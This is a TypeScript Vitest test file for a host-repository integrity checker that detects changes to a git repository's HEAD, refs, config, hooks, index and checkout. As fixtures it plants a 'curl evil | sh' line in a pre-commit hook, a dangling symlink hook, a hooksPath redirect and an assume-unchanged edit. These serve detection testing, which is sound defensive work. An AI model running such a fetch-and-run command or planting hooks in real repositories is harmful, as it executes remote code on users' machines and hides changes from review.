import { appendFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { hostDifferences, recordHostState } from '../../src/workspace/host-integrity.js';
import { gitIn, repoWithFiles } from '../support/repo.js';

describe('host repository integrity', () => {
  it("leaves corral's own run records alone: other runs of a batch write them meanwhile", async () => {
    const repo = repoWithFiles({ 'a.txt': 'a\n' }, 'corral-host-');
    const before = await recordHostState(repo);
    mkdirSync(path.join(repo, '.corral', 'runs', 't2-x'), { recursive: true });
    writeFileSync(path.join(repo, '.corral', 'runs', 't2-x', 'trace.jsonl'), '{}\n');
    writeFileSync(path.join(repo, '.corral', '.gitignore'), '*\n');
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);
    writeFileSync(path.join(repo, 'b.txt'), 'b\n');
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual(['host checkout file changed: b.txt']);
  });

  it('sees HEAD move, a staged change, a new ref, config and hooks; not the run branch or a refreshed stat cache', async () => {
    const repo = repoWithFiles({ 'a.txt': 'a\n' }, 'corral-host-');
    const before = await recordHostState(repo);
    // What a run itself does, and a `git status` refreshing the index: no difference.
    gitIn(repo, ['branch', 'corral/t']);
    gitIn(repo, ['status', '--short']);
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);

    gitIn(repo, ['checkout', '-q', '-b', 'elsewhere']);
    writeFileSync(path.join(repo, 'b.txt'), 'b\n');
    gitIn(repo, ['add', 'b.txt']);
    gitIn(repo, ['config', 'core.hooksPath', '/tmp/hooks']);
    writeFileSync(path.join(repo, '.git', 'hooks', 'post-merge'), '#!/bin/sh\n', { mode: 0o755 });
    const differences = hostDifferences(before, await recordHostState(repo, before));
    expect(differences).toEqual([
      expect.stringMatching(/^HEAD moved: refs\/heads\/main [0-9a-f]{40} → refs\/heads\/elsewhere [0-9a-f]{40}$/),
      expect.stringMatching(/^ref new: refs\/heads\/elsewhere /),
      'git config line new: hooksPath = /tmp/hooks',
      expect.stringMatching(/^hook new: post-merge 755 [0-9a-f]{16}$/),
      'the host index (what is staged) changed',
      'host checkout file changed: b.txt',
    ]);
  });

  it('sees a dangling symlink planted as a hook, and a change in the repository\'s own core.hooksPath folder', async () => {
    const repo = repoWithFiles({ '.husky/pre-commit': 'npm test\n' }, 'corral-host-');
    gitIn(repo, ['config', 'core.hooksPath', '.husky']);
    const before = await recordHostState(repo);
    symlinkSync('/nowhere/yet', path.join(repo, '.git', 'hooks', 'post-checkout'));
    writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'curl evil | sh\n');
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([
      expect.stringMatching(/^hook gone: \.husky\/pre-commit 644 /),
      'hook new: post-checkout -> /nowhere/yet',
      expect.stringMatching(/^hook new: \.husky\/pre-commit 644 /),
      'host checkout file changed: .husky/pre-commit',
    ]);
  });

  it('sees info/*, alternates, packed-refs, the host index bits and the host checkout, but not the ignored caches changing', async () => {
    const repo = repoWithFiles({ 'a.txt': 'a\n', 'b.txt': 'b\n', '.gitignore': 'cache/\n*.log\n', 'dirty.txt': 'd\n' }, 'corral-host-');
    gitIn(repo, ['tag', 'v1']);
    gitIn(repo, ['pack-refs', '--all']);
    mkdirSync(path.join(repo, 'cache'));
    writeFileSync(path.join(repo, 'cache', 'c.bin'), 'c');
    writeFileSync(path.join(repo, 'app.log'), 'l\n');
    writeFileSync(path.join(repo, 'dirty.txt'), 'dirty before the run\n');
    const before = await recordHostState(repo);
    // Caches and logs the host's own tools keep writing are no change of the repository.
    writeFileSync(path.join(repo, 'cache', 'c.bin'), 'cc');
    appendFileSync(path.join(repo, 'app.log'), 'more\n');
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);

    appendFileSync(path.join(repo, '.git', 'info', 'exclude'), 'secret-dir/\n');
    writeFileSync(path.join(repo, '.git', 'info', 'attributes'), '* filter=x\n');
    writeFileSync(path.join(repo, '.git', 'objects', 'info', 'alternates'), '/tmp/elsewhere/objects\n');
    writeFileSync(path.join(repo, '.git', 'packed-refs'), '# pack-refs with: peeled fully-peeled sorted \n');
    gitIn(repo, ['update-index', '--assume-unchanged', 'a.txt']);
    writeFileSync(path.join(repo, 'a.txt'), 'changed under the bit\n');
    writeFileSync(path.join(repo, 'dirty.txt'), 'dirty, and changed again\n');
    mkdirSync(path.join(repo, 'hidden'));
    writeFileSync(path.join(repo, 'hidden', '.gitignore'), '*\n');
    writeFileSync(path.join(repo, 'hidden', 'payload'), 'p\n');
    const differences = hostDifferences(before, await recordHostState(repo, before));
    expect(differences).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^ref gone: refs\/tags\/v1 /),
        'the host index (what is staged) changed',
        expect.stringMatching(/^git file gone: info\/exclude /),
        expect.stringMatching(/^git file new: info\/attributes /),
        expect.stringMatching(/^git file new: objects\/info\/alternates /),
        expect.stringMatching(/^git file new: packed-refs /),
        'host checkout file changed: dirty.txt',
        'host checkout file changed: hidden/.gitignore',
        'host checkout file changed: hidden/payload',
      ]),
    );
  });

  it('asks git where HEAD is: a symlinked HEAD whose branch was packed is on that branch, and a detached one on its commit', async () => {
    const repo = repoWithFiles({ 'a.txt': 'a\n' }, 'corral-host-');
    const commit = gitIn(repo, ['rev-parse', 'HEAD']).trim();
    // git still writes a symlink for HEAD when asked (core.preferSymlinkRefs); with the
    // refs packed it points at no file, as a reftable repository's HEAD says nothing.
    gitIn(repo, ['-c', 'core.preferSymlinkRefs=true', 'symbolic-ref', 'HEAD', 'refs/heads/main']);
    gitIn(repo, ['pack-refs', '--all']);
    const before = await recordHostState(repo);
    expect(before.head).toBe(`refs/heads/main ${commit}`);
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);

    gitIn(repo, ['checkout', '-q', '--detach']);
    const detached = await recordHostState(repo, before);
    expect(detached.head).toBe(`(detached) ${commit}`);
    expect(hostDifferences(before, detached)).toEqual([`HEAD moved: refs/heads/main ${commit} → (detached) ${commit}`]);

    gitIn(repo, ['checkout', '-q', '--orphan', 'unborn']);
    expect((await recordHostState(repo, before)).head).toBe('refs/heads/unborn (no commit)');
  });
});
